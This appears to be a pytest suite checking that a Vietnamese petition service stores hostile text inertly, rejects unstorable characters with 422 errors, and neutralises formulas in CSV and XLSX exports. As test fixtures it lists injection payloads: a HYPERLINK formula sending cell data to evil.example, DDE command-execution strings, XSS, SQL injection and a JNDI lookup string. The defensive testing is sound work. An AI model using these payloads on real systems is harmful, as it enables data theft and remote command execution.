"""Hostile text through the service: stored as given or refused with a 422 naming the field,
never a 5xx; exports neutralise spreadsheet formulas and keep everything else inert."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from tests.service.conftest import Api

ROAD = "Đường liên xã xuống cấp"  # the fake model assigns it to so-xay-dung, no review

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
INERT = [
    "<script>alert('xss')</script> " + ROAD,
    "'; DROP TABLE petitions; -- " + ROAD,
    "${jndi:ldap://x/a} {{7*7}} %s%n " + ROAD,
    "\u202eổđ ngược chiều\u202c " + ROAD,
    "chuông\x07 và thoát\x1b[31m " + ROAD,
]


def _submit_hostile(api: Api) -> dict[str, str]:
    codes = {}
    for n, text in enumerate(FORMULAS + INERT):
        body = {"text": text if n >= len(FORMULAS) else f"{text} {ROAD}"}
        body["submitter"] = text[:300]
        body["locality"] = "=1+2"
        codes[api.submit(**body)["id"]] = body["text"]
    return codes


def _cells_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_export_neutralises_formulas(api: Api) -> None:
    codes = _submit_hostile(api)
    response = api.get("secretariat", "/api/v1/petitions/export", params={"format": "csv"})
    assert response.status_code == 200, response.text
    rows = _cells_csv(response.content)
    assert len(rows) == len(codes)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    texts = {v for row in rows for v in row.values()}
    for text in codes.values():
        expected = "'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text
        assert expected in texts  # kept verbatim apart from the neutralising quote


def test_xlsx_export_has_no_formula_cells_and_survives_control_characters(api: Api) -> None:
    codes = _submit_hostile(api)
    response = api.get("secretariat", "/api/v1/petitions/export", params={"format": "xlsx"})
    assert response.status_code == 200, response.text[:300]
    book = load_workbook(io.BytesIO(response.content))
    sheet = book.active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(codes)
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@")), cell.value


@pytest.mark.parametrize(
    "text",
    [
        "Đường\x00 có ký tự NUL",
        "Đường có nửa cặp \ud800 thay thế",
    ],
)
def test_unstorable_characters_are_refused_with_422_not_500(api: Api, text: str) -> None:
    # Encoded by hand: a lone surrogate travels as a "\\ud800" escape, as a hostile client sends it.
    headers = {**api.headers("secretariat"), "Content-Type": "application/json"}
    for field in ("text", "submitter"):
        body = {"text": ROAD, field: text}
        response = api.client.post("/api/v1/petitions", content=json.dumps(body), headers=headers)
        assert response.status_code == 422, response.text
        assert field in response.json()["detail"]
    dept = {**api.headers("xay-dung"), "Content-Type": "application/json"}
    answer = api.client.post(
        f"/api/v1/petitions/{api.submit(ROAD)['id']}/return",
        headers=dept,
        content=json.dumps({"reason": text}),
    )
    assert answer.status_code == 422, answer.text


def test_upload_with_hostile_cells_reports_rows_never_500(api: Api) -> None:
    content = (
        "text,submitter\n"
        + "\n".join(f'"{t.replace(chr(34), chr(34) * 2)} {ROAD}","=cmd"' for t in FORMULAS + INERT)
        + "\nĐường có NUL\x00,x\n"
    )
    response = api.post(
        "secretariat",
        "/api/v1/petitions/upload",
        files={"file": ("hostile.csv", content.encode(), "text/csv")},
    )
    assert response.status_code == 200, response.text
    report = response.json()
    assert report["created"] + report["duplicates"] + report["errors"] == len(FORMULAS) + len(INERT) + 1
    assert report["errors"] == 1 and "U+0000" in str(report["rows"][-1])
    export = api.get("secretariat", "/api/v1/petitions/export", params={"format": "xlsx"})
    assert export.status_code == 200, export.text[:300]
